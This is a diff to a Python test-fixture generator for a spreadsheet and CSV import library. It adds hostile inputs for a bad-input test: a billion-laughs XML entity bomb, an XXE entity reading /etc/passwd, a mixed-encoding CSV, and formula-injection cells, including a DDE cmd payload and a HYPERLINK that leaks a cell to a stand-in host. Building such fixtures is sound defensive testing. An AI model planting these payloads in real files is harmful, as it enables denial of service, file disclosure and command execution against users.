@@ -405,6 +405,30 @@ def write_csv_files():
     put("utf8_ambiguous.csv", ambiguous)
 
 
+def write_hostile_files():
+    """The bad-input table of test_badinputs: the classic XML attacks and text a spreadsheet
+    would run. (The million-row CSV and the 100,000-character cells are made by the test.)"""
+    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+              + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+                        for i in range(1, 10))
+              + f']><sst {NS} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
+    simple_xlsx(os.path.join(HERE, "billion_laughs.xlsx"),
+                sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=laughs)
+    xxe = ('<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+           f'<sst {NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
+    simple_xlsx(os.path.join(HERE, "external_entity.xlsx"),
+                sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), shared=xxe)
+    with open(os.path.join(HERE, "mixed_encodings.csv"), "wb") as f:
+        f.write("项目编号,项目名称,责任单位,总投资\n".encode("utf-8"))
+        f.write("GX-001,智能装备产业园,高新区,12500\n".encode("utf-8"))
+        f.write("GX-002,新材料研发中心,涧西区,8600\n".encode("gbk"))
+    with open(os.path.join(HERE, "formula_injection.csv"), "wb") as f:
+        f.write("项目编号,项目名称,责任单位,总投资\n"
+                'GX-901,"=HYPERLINK(""http://example.invalid/?x=""&A1,""点击"")",高新区,100\n'
+                "GX-902,@SUM(1+1)*cmd|' /C calc'!A0,高新区,200\n"
+                "GX-903,+1+1,高新区,300\n".encode("utf-8"))
+
+
 def main():
     ledger = os.path.join(HERE, "ledger_openpyxl.xlsx")
     write_openpyxl(ledger)
@@ -417,6 +441,7 @@ def main():
     # FreeXL must honour an .xls file's 1904 date system too; LibreOffice keeps it on converting.
     soffice_convert(os.path.join(HERE, "date1904.xlsx"), "xls", os.path.join(HERE, "date1904.xls"))
     write_csv_files()
+    write_hostile_files()
 
 
 if __name__ == "__main__":
